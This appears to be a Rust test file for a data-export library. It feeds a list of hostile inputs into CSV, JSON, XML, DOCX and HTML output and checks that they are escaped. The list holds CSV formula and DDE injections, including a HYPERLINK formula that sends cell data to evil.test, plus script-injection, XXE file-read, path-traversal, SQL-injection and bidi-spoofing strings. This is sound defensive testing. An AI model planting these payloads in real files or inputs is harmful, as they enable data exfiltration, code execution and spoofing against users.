//! Cells and names written by somebody who means harm.

use exeunt_base::{Cell, Row};
use exeunt_package::Format;
use proptest::prelude::{ProptestConfig, any, proptest};
use proptest::{collection, strategy::Strategy};

use crate::reading::{docx_parts, xml_fields};
use crate::support::{integer, look_inside, model, one_model, text};

const PAYLOADS: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\0=1",
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</td></tr></table><script>alert(1)</script>",
    "<!--",
    "]]>",
    "<![CDATA[",
    "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
    "</style><style>*{display:none}",
    "javascript:alert(1)",
    "\u{1b}[31mred\u{1b}]0;title\u{7}",
    "\u{202e}gnp.exe",
    "\u{2066}\u{2069}\u{200f}",
    "\u{feff}bom",
    "\u{fffe}\u{ffff}",
    "\u{85}\u{9b}31m",
    "</w:t></w:r><w:fldSimple w:instr=\"DDEAUTO\"/>",
    "line\r\nbreak\u{2028}\u{2029}",
    "' OR 1=1 --",
    "../../../etc/passwd",
    "💥 ünï",
];

#[test]
fn no_payload_becomes_a_formula_or_markup_and_json_keeps_them_all() {
    let rows: Vec<Row> = PAYLOADS
        .iter()
        .enumerate()
        .map(|(id, payload)| vec![Cell::Int(id as i64), Cell::text(payload)])
        .collect();
    // the names are hostile, too
    let mut hostile = model("../\u{202e}<b>\"=1+1", vec![integer("<id>\"&"), text("=1+1\r\n<script>")]);
    hostile.title = "<script>alert('title')</script>".into();
    hostile.description = Some("</p><script>alert(2)</script>".into());
    let inside = look_inside(&one_model(&Format::ALL, hostile, &rows));

    let json = inside.json("2-your-data/01-b-1-1.json");
    for (row, payload) in json.as_array().unwrap().iter().zip(PAYLOADS) {
        assert_eq!(row["=1+1\r\n<script>"], *payload);
    }

    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(inside.text("2-your-data/01-b-1-1.csv").as_bytes());
    let mut guarded = 0;
    for (number, record) in reader.records().enumerate() {
        let record = record.unwrap();
        assert_eq!(record.len(), 2, "record {number}");
        let first = record[1].chars().next().unwrap();
        assert!(!"=+-@\t\r\0".contains(first), "{:?}", &record[1]);
        guarded += u64::from(first == '\'');
    }
    // one payload begins with a quote by itself; the header was guarded as well
    assert_eq!(inside.manifest.escapes.csv_formulas, guarded - 1);

    let fields = xml_fields(inside.text("2-your-data/01-b-1-1.xml"));
    assert_eq!(fields.len(), PAYLOADS.len() * 2);
    assert_eq!(fields[1].1, PAYLOADS[0]);

    let body = docx_parts(&inside.files["2-your-data/01-b-1-1.docx"]).remove(4).1;
    assert!(!body.contains("<w:fldSimple") && !body.contains("<script"));
    xml_fields(&body);

    for path in ["2-your-data/01-b-1-1.html", "index.html", "1-answer.html"] {
        let page = inside.text(path);
        for bad in ["<script", "<img", "onerror=alert(1)>", "<!--", "</style><style>", "\u{1b}", "\0"] {
            assert!(!page.contains(bad), "{bad:?} in {path}");
        }
        assert_eq!(page.matches("<style>").count(), 1, "{path}");
    }
    assert!(inside.manifest.escapes.replaced_characters > 0);
    for path in inside.paths() {
        assert!(path.bytes().all(|b| b.is_ascii_alphanumeric() || b"-./".contains(&b)), "{path}");
    }
}

#[test]
fn a_huge_cell_and_broken_text_pass_through_every_format() {
    let huge = "forty characters of plain words and then <&\"\n".repeat(10 * 1024 * 1024 / 44);
    let rows = vec![
        vec![Cell::Int(1), Cell::text(&huge)],
        vec![Cell::Int(2), Cell::BrokenText(vec![b'a', 0xc3, 0x28, 0xff, 0xfe])],
    ];
    let inside =
        look_inside(&one_model(&Format::ALL, model("notes", vec![integer("id"), text("body")]), &rows));
    let json = inside.json("2-your-data/01-notes.json");
    assert!(json[0]["body"] == huge.as_str());
    assert_eq!(json[1]["body"]["$broken_text"], "YcMo//4=");
    let mut reader = csv::Reader::from_reader(inside.text("2-your-data/01-notes.csv").as_bytes());
    assert!(reader.records().next().unwrap().unwrap()[1] == huge);
    assert!(xml_fields(inside.text("2-your-data/01-notes.xml"))[1].1 == huge);
    let body = docx_parts(&inside.files["2-your-data/01-notes.docx"]).remove(4).1;
    let longest = body.split("<w:t xml:space=\"preserve\">").map(|run| run.find('<').unwrap_or(0)).max();
    assert!(longest < Some(200_000), "readers refuse text nodes of ten megabytes");
    assert!(inside.text("2-your-data/01-notes.html").contains("<details><summary>long text, "));
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::with_cases(48) })]

    #[test]
    fn any_text_comes_back_from_json_and_csv_and_never_breaks_xml(
        texts in collection::vec(any::<String>().prop_map(|text| text.chars().take(200).collect::<String>()), 1..30)
    ) {
        let rows: Vec<Row> =
            texts.iter().enumerate().map(|(id, text)| vec![Cell::Int(id as i64), Cell::text(text)]).collect();
        let formats = [Format::Json, Format::Csv, Format::Xml];
        let inside = look_inside(&one_model(&formats, model("notes", vec![integer("id"), text("body")]), &rows));
        let json = inside.json("2-your-data/01-notes.json");
        let mut reader = csv::Reader::from_reader(inside.text("2-your-data/01-notes.csv").as_bytes());
        let records: Vec<_> = reader.records().map(Result::unwrap).collect();
        let fields = xml_fields(inside.text("2-your-data/01-notes.xml"));
        assert_eq!(records.len(), texts.len());
        for (number, text) in texts.iter().enumerate() {
            assert_eq!(json[number]["body"], text.as_str());
            let written = &records[number][1];
            assert!(written == text || written.strip_prefix('\'') == Some(text.as_str()));
            let read = &fields[number * 2 + 1].1;
            assert_eq!(read.chars().count(), text.chars().count());
            assert!(read.chars().zip(text.chars()).all(|(read, wrote)| read == wrote || read == '\u{fffd}'));
        }
    }
}
